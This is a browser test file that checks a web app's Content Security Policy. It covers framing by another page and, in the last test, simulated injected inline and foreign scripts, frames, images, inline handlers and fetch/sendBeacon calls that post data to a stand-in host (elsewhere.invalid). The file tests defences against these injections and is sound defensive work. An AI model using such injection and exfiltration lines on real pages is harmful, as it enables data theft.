import { directives, headers, printPolicy } from '../scripts/security-policy.ts'
import { expect, openFile, test } from './support/app.ts'
import { dist, type Site, serve } from './support/site.ts'
import { workbench } from './support/workbench.ts'

test.describe('behind a server that sends the documented headers', () => {
  let site: Site
  test.beforeEach(async () => {
    site = await serve(dist, { headers })
  })
  test.afterEach(() => site.stop())

  test('the page works, its thread and its fonts with it', async ({ page }) => {
    const started = page.waitForEvent('worker')
    const answer = await page.goto(site.address)
    await started
    expect(answer?.headers()['content-security-policy']).toBe(headers['Content-Security-Policy'])
    await openFile(page, { name: 'small.yaml', bytes: Buffer.from('kind: Cluster\nspec:\n  type: user\n') })
    await expect(workbench(page).editor).toBeVisible()
    await page.goto(`${site.address}#/rules/nodes-outside-pools`)
    await expect(page.getByRole('figure').first()).toBeVisible()
    expect(await page.evaluate(() => document.fonts.check('13px "Plex Sans"'))).toBe(true)
  })

  test.describe('when another page tries to show it in a frame', () => {
    test.use({ provoked: /frame-ancestors|outer\.html/ })
    test('it shows nothing', async ({ page }) => {
      await page.route('**/outer.html', (route) =>
        route.fulfill({ contentType: 'text/html', body: `<iframe src="${site.address}"></iframe>` }),
      )
      await page.goto(`${site.address.replace('127.0.0.1', 'localhost')}outer.html`)
      await expect.poll(() => page.frames().length).toBe(2)
      await expect(page.frameLocator('iframe').locator('#root')).toHaveCount(0)
    })
  })
})

test.describe('when something in the page turns against it', () => {
  test.use({ provoked: /Content Security Policy|elsewhere\.invalid/ })

  test('the page itself refuses scripts, connections and styles from elsewhere', async ({ page }) => {
    await page.goto('./')
    const meta = page.locator('meta[http-equiv=Content-Security-Policy]')
    expect(await meta.getAttribute('content')).toBe(printPolicy(directives))
    const refused = await page.evaluate(async () => {
      const seen = new Set<string>()
      document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective))
      const mark = "document.documentElement.dataset.injected = 'yes'"
      const inline = document.createElement('script')
      inline.textContent = mark
      const foreign = document.createElement('script')
      foreign.src = 'https://elsewhere.invalid/script.js'
      const frame = document.createElement('iframe')
      frame.src = 'https://elsewhere.invalid/'
      const picture = document.createElement('img')
      picture.src = 'https://elsewhere.invalid/pixel.png'
      document.body.append(inline, foreign, frame, picture)
      const holder = document.createElement('div')
      holder.innerHTML = `<p style="color: red" onclick="${mark}">text</p>`
      document.body.append(holder)
      holder.querySelector('p')!.click()
      await fetch('https://elsewhere.invalid/out', { method: 'POST', body: 'text' }).catch(() => undefined)
      navigator.sendBeacon('https://elsewhere.invalid/out', 'text')
      await new Promise((soon) => setTimeout(soon, 300))
      return [...seen].toSorted()
    })
    expect(refused).toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
    ])
    await expect(page.locator('html')).not.toHaveAttribute('data-injected')
  })
})
